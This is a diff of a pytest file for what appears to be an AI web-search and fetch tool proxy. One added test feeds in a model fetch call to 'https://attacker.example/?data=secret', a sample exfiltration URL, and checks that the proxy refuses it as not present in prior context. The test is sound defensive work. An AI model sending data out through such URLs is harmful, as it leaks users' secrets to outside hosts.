@@ -100,11 +100,11 @@ def test_both_domain_lists_hold_and_the_users_bind_the_model(
     assert sources(results_of(messages_api.bodies[-1])[0]) == ["https://a.example/"]
 
 
-@pytest.mark.parametrize("tool", [BRAVE, "brave_search"])
+@pytest.mark.parametrize("tool", [BRAVE, "brave_search", "web_search"])
 def test_live_data_come_first_and_can_be_cited(messages_api: Any, brave_api: Any, tool: str) -> None:
     weather = {"type": "rich", "subtype": "weather", "weather": {"location": "Berlin", "temperature_c": 4.5}}
     brave_api.reply_rich("weather", [weather], [hit("https://a.example/", "Weather", "Cold.")])
-    ask(messages_api, tool_use(tool, {"query": "weather berlin"}), tools=tool)
+    ask(messages_api, tool_use(tool, {"query": "weather berlin"}), tools=tool, read_pages=0)
     rich, page = results_of(messages_api.bodies[-1])[0]["content"]
     assert rich["title"] == "Brave rich result: weather" and "temperature_c: 4.5" in rich["content"][0]["text"]
     assert rich["source"] == "https://search.brave.com/search?q=weather+berlin" and page["source"] == "https://a.example/"
@@ -199,6 +199,7 @@ def test_what_the_user_set_binds_the_model(messages_api: Any, brave_api: Any) ->
     ("page", "options", "told"),
     [
         (scraped("# Secret", statusCode=404), {}, "the page's server answered 404"),
+        ({"success": True, "links": ["Secret"]}, {}, "no results that can be read"),
         (
             scraped("Secret.", url="https://other.example/landing"),
             {"allowed_domains": ["example.org"]},
@@ -210,7 +211,8 @@ def test_a_page_that_was_billed_and_is_none_is_an_error(
     messages_api: Any, firecrawl: Any, page: Any, options: Any, told: str
 ) -> None:
     firecrawl.reply(body=page)
-    answer = ask_tiers(messages_api, scrape(), **options)
+    call = tool_use("firecrawl_map", {"url": GUIDE}) if "links" in page else scrape()
+    answer = ask_tiers(messages_api, call, **options)
     (result,) = results_of(messages_api.bodies[-1])
     assert result["is_error"] and told in words_of(result) and "Secret" not in words_of(result)
     assert answer.trace[1].cost_usd == CREDIT
@@ -232,6 +234,17 @@ def test_what_nobody_wrote_down_is_not_read(messages_api: Any, firecrawl: Any, c
     (result,) = results_of(messages_api.bodies[-1])
     assert result["is_error"] and why in words_of(result) and "Failed to fetch URL" in words_of(result)
     assert firecrawl.requests == []
+
+
+def test_what_the_model_wrote_into_a_call_makes_no_address_known(messages_api: Any, brave_api: Any) -> None:
+    """Neither a refused fetch nor a search without results, whose texts the next question reads in the history."""
+    brave_api.reply([])
+    url = "https://attacker.example/?data=secret"
+    fetch = tool_use("web_fetch", {"url": url})
+    ask(messages_api, fetch, tool_use("web_search", {"query": url}))
+    ask(messages_api, fetch, follow=True)
+    (result,) = results_of(messages_api.bodies[-1])
+    assert "(url_not_in_prior_context)" in words_of(result)
 
 
 def test_a_context_call_gives_whole_passages(messages_api: Any, brave_api: Any) -> None:
